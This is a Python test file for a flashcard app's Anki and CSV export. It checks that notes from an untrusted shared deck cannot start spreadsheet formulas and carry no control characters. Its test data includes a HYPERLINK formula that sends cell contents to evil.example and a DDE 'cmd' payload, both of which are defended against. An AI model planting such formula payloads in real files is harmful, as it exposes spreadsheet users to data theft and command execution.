"""Attacker-chosen notes exported: no cell a spreadsheet would run, nothing real Anki refuses.

The notes come from a shared deck, so their guid, fields, tags, deck and note-type names are
whatever a stranger wrote. The .apkg and the text file are opened with the real `anki`
package; the text file also with Python's csv reader, as a spreadsheet would split it.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from sqlmodel import select

from cehrs_cards.core.notetypes import NoteTypeDef, Template
from cehrs_cards.db.models import Deck, Note, NoteType
from cehrs_cards.interchange.anki_clean import FORMULA_STARTS
from cehrs_cards.interchange.package import NoteIn, Package
from cehrs_cards.services.collection import Collection
from cehrs_cards.services.importing import import_package
from cehrs_cards.services.transfer import import_file
from cehrs_cards.services.transfer_export import export_file, list_notes

EVIL_GUID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULAS = {
    "f-eq": ("=1+1", "+SUM(A1:A9)"),
    "f-dde": ("-2+3+cmd|' /C calc'!A0", "@SUM(1)"),
    "f-tab": ("\t=1+1", "plain answer"),
}


def _anki(where: Path):  # type: ignore[no-untyped-def]
    from anki.collection import Collection as AnkiCollection

    return AnkiCollection(str(where / "anki.anki2"))


@pytest.fixture
def formula_col(col: Collection) -> Collection:
    notes = [NoteIn(EVIL_GUID, "Basic", "=Deck::+Sub", {"Front": "q", "Back": "a"}, ["-tag", "@x"])]
    notes += [
        NoteIn(g, "Basic", "Plain", {"Front": f, "Back": b}) for g, (f, b) in FORMULAS.items()
    ]
    notes.append(NoteIn("#not-a-comment", "Basic", "Plain", {"Front": "hash", "Back": "guid"}))
    import_package(col, Package(notes=notes))
    return col


def _rows(path: Path) -> list[list[str]]:
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    body = "".join(ln for ln in lines if not ln.startswith("#"))
    return list(csv.reader(io.StringIO(body, newline=""), delimiter="\t"))


def test_no_text_cell_starts_a_formula(formula_col, tmp_path):
    out = tmp_path / "deck.csv"
    export_file(formula_col, out)
    rows = _rows(out)
    assert len(rows) == 5  # the '#' guid is quoted, so it is a row, not a comment line
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    by_guid = {row[0]: row for row in rows}
    evil = by_guid["'" + EVIL_GUID]  # plain cells: OWASP's quote
    assert evil[2] == "'=Deck::+Sub" and evil[-1].startswith("'-tag @x")
    assert by_guid["f-eq"][3:5] == ["&#61;1+1", "&#43;SUM(A1:A9)"]  # HTML cells: a reference
    assert by_guid["f-dde"][3:5] == ["&#45;2+3+cmd|' /C calc'!A0", "&#64;SUM(1)"]
    assert by_guid["f-tab"][3] == "&#9;=1+1"
    assert "#not-a-comment" in by_guid


def test_real_anki_imports_the_text_file_and_shows_the_same_cards(formula_col, tmp_path):
    from anki.collection import ImportCsvRequest

    out = tmp_path / "deck.txt"
    export_file(formula_col, out)
    anki = _anki(tmp_path)
    try:
        metadata = anki.get_csv_metadata(str(out), delimiter=None)
        anki.import_csv(ImportCsvRequest(path=str(out), metadata=metadata))
        notes = {anki.get_note(n).guid: anki.get_note(n) for n in anki.find_notes("")}
        assert len(notes) == 5 and "#not-a-comment" in notes
        for guid, (front, back) in FORMULAS.items():
            card = notes[guid].cards()[0]
            assert notes[guid].fields[0].startswith("&#")  # stored as a character reference,
            assert _text(card.question()) == front.strip()  # shown as the character itself
            assert _text(card.answer()).endswith(back)
        evil = notes["'" + EVIL_GUID]  # plain cells keep the quote: documented in docs/export.md
        assert anki.decks.name(evil.cards()[0].did) == "'=Deck::+Sub"
    finally:
        anki.close()


def _text(html: str) -> str:
    import html as html_mod
    import re

    html = re.sub(r"<style>.*?</style>", "", html, flags=re.DOTALL)
    return html_mod.unescape(re.sub(r"<[^>]+>", "", html)).strip()


def test_our_own_import_reads_the_fields_back_unchanged(formula_col, tmp_path):
    before = {n["id"]: n["fields"] for n in list_notes(formula_col)}
    out = tmp_path / "deck.txt"
    export_file(formula_col, out)
    fresh = Collection(tmp_path / "fresh", clock=formula_col.clock)
    try:
        import_file(fresh, out)
        after = {n["id"]: n["fields"] for n in list_notes(fresh)}
    finally:
        fresh.close()
    for guid in FORMULAS:
        assert after[guid] == before[guid]


CONTROLS = "a\x1fb\x00c\x07d\re\x7ff"  # U+001F is Anki's field separator


@pytest.fixture
def control_col(col: Collection) -> Collection:
    """A note whose every name and field holds control characters (written to the database
    directly, whatever the importer lets through)."""
    custom = NoteTypeDef("Vocab", "custom", ("Word", "Meaning"), (Template("c", "{{Word}}", "x"),))
    pkg = Package(notetypes={"Vocab": custom})
    pkg.notes = [NoteIn("ctl-1", "Vocab", "Evil::Sub", {"Word": "w", "Meaning": "m"})]
    import_package(col, pkg)
    with col.transaction() as s:
        note = s.exec(select(Note)).one()
        note.fields = json.dumps([CONTROLS + "\ttab\nline", "x\x1fy"])
        note.tags = "t\x01u v\x1fw"
        note.guid = "ctl-\x1f1"
        for deck in s.exec(select(Deck)):
            deck.name = deck.name.replace("Evil", "Ev\x1fil\x07")
        notetype = s.exec(select(NoteType).where(NoteType.name == "Vocab")).one()
        notetype.name = "Vo\x1fcab"
    return col


def test_control_characters_are_stripped_so_real_anki_takes_the_package(control_col, tmp_path):
    from anki.collection import ImportAnkiPackageOptions, ImportAnkiPackageRequest

    out = tmp_path / "ctl.apkg"
    export_file(control_col, out)
    anki = _anki(tmp_path)
    try:
        request = ImportAnkiPackageRequest(
            package_path=str(out), options=ImportAnkiPackageOptions(with_scheduling=False)
        )
        anki.import_anki_package(request)
        (nid,) = anki.find_notes("")
        note = anki.get_note(nid)
        assert note.guid == "ctl-1"
        assert note.fields == ["abcdef\ttab\nline", "xy"]  # tab and newline stay, as in Anki
        assert sorted(note.tags) == ["tu", "v", "w"]  # our tags split at U+001F too
        assert anki.decks.name(note.cards()[0].did) == "Evil::Sub"
        assert note.note_type()["name"] == "Vocab"
    finally:
        anki.close()


def test_text_export_carries_no_control_character_but_tab_and_newline(control_col, tmp_path):
    out = tmp_path / "ctl.txt"
    export_file(control_col, out)
    text = out.read_text(encoding="utf-8")
    assert not [c for c in text if (ord(c) < 32 and c not in "\t\n") or ord(c) == 0x7F]
    (row,) = _rows(out)
    assert row[:5] == ["ctl-1", "Vocab", "Evil::Sub", "abcdef\ttab\nline", "xy"]
